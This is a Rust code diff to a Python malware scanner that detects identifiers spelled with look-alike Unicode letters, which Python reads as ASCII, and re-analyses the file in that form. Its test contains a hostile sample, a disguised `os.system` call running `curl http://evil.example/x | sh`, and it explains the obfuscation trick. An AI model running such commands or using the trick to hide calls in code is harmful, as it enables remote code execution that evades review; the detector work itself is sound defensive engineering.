@@ -147,12 +147,89 @@ pub(crate) fn analyze(src: &[u8], ctx: &PyCtx<'_>, sink: &mut Sink, facts: &mut 
         );
         return;
     }
+    // Python reads identifiers in NFKC form, so a mathematical-bold `𝐞𝐱𝐞𝐜` is `exec`.
+    // When identifiers are written that way, the analysis reads the file as Python does
+    // (line numbers unchanged; the snippets show the ASCII form).
+    if let Some(ascii) = lookalikes_to_ascii(src)
+        && let Some((line, ident)) = lookalike_identifier(src)
+    {
+        push(
+            sink,
+            ctx,
+            "PY-OBF-UNICODE-IDENT",
+            line,
+            &ident,
+            format!("identifier `{ident}` uses look-alike Unicode letters (read as ASCII)"),
+            Some(ctx.top),
+        );
+        return parse_and_walk(ascii.as_bytes(), ctx, sink, facts);
+    }
+    parse_and_walk(src, ctx, sink, facts);
+}
+
+fn parse_and_walk(src: &[u8], ctx: &PyCtx<'_>, sink: &mut Sink, facts: &mut Facts) {
     let parsed = parser_copy(src);
     let Some(tree) = parse(&parsed) else {
         return;
     };
     let py = Py::collect(src, &parsed, &tree, ctx);
     py.walk(ctx, sink, facts);
+}
+
+/// `src` with its mathematical alphanumeric, fullwidth and letter-like symbols
+/// replaced by their NFKC (ASCII) forms, if it has any; the line structure is kept.
+fn lookalikes_to_ascii(src: &[u8]) -> Option<String> {
+    use unicode_normalization::UnicodeNormalization;
+    let folds = |c: char| {
+        let u = c as u32;
+        (0x1D400..=0x1D7FF).contains(&u)
+            || (0xFF01..=0xFF5E).contains(&u)
+            || (0x2100..=0x214F).contains(&u)
+    };
+    // Their UTF-8 forms start with F0 9D, EF BC / EF BD and E2 84 / E2 85.
+    let maybe = memchr::memchr3_iter(0xF0, 0xEF, 0xE2, src).any(|i| {
+        matches!(
+            (src[i], src.get(i + 1)),
+            (0xF0, Some(0x9D)) | (0xEF, Some(0xBC | 0xBD)) | (0xE2, Some(0x84 | 0x85))
+        )
+    });
+    if !maybe {
+        return None;
+    }
+    let text = std::str::from_utf8(src).ok()?;
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        if folds(c) {
+            out.extend(std::iter::once(c).nfkc().filter(|x| *x != '\n'));
+        } else {
+            out.push(c);
+        }
+    }
+    Some(out)
+}
+
+/// The first identifier of `src` written with look-alike letters, and its line.
+fn lookalike_identifier(src: &[u8]) -> Option<(u32, String)> {
+    let parsed = parser_copy(src);
+    let tree = parse(&parsed)?;
+    let mut c = tree.walk();
+    loop {
+        let n = c.node();
+        if kind(n) == "identifier" {
+            let t = text(n, src);
+            if !t.is_ascii() && lookalike(t) {
+                return Some((line_of(n), t.to_string()));
+            }
+        }
+        if kind(n) != "string" && c.goto_first_child() {
+            continue;
+        }
+        while !c.goto_next_sibling() {
+            if !c.goto_parent() {
+                return None;
+            }
+        }
+    }
 }
 
 /// Parse with this thread's parser (made once per thread, not once per file).
@@ -2959,6 +3036,29 @@ mod tests {
         let s = run("x = eval('1 + 1')\nn = eval('len')\nprint(n([x]))\n");
         assert!(
             !rules(&s).contains(&"PY-EVASION-BUILTINS"),
+            "{:?}",
+            rules(&s)
+        );
+    }
+
+    #[test]
+    fn lookalike_identifiers_are_read_as_python_reads_them() {
+        // `𝐨𝐬.𝐬𝐲𝐬𝐭𝐞𝐦` in mathematical bold is os.system to Python (NFKC).
+        let src = "import os\n\n𝐨𝐬.𝐬𝐲𝐬𝐭𝐞𝐦('curl http://evil.example/x | sh')\n";
+        let s = run(src);
+        let r = rules(&s);
+        assert!(r.contains(&"PY-OBF-UNICODE-IDENT"), "{r:?}");
+        let cmd: Vec<_> = s
+            .findings
+            .iter()
+            .filter(|f| f.rule.starts_with("CMD-") || f.rule == "PY-CMD-EXEC")
+            .collect();
+        assert!(!cmd.is_empty(), "{r:?}");
+        assert!(cmd.iter().all(|f| f.line == 3), "{cmd:?}");
+        // Fancy letters inside a string literal are not identifiers.
+        let s = run("BANNER = '𝐇𝐞𝐥𝐥𝐨'\nprint(BANNER)\n");
+        assert!(
+            !rules(&s).contains(&"PY-OBF-UNICODE-IDENT"),
             "{:?}",
             rules(&s)
         );
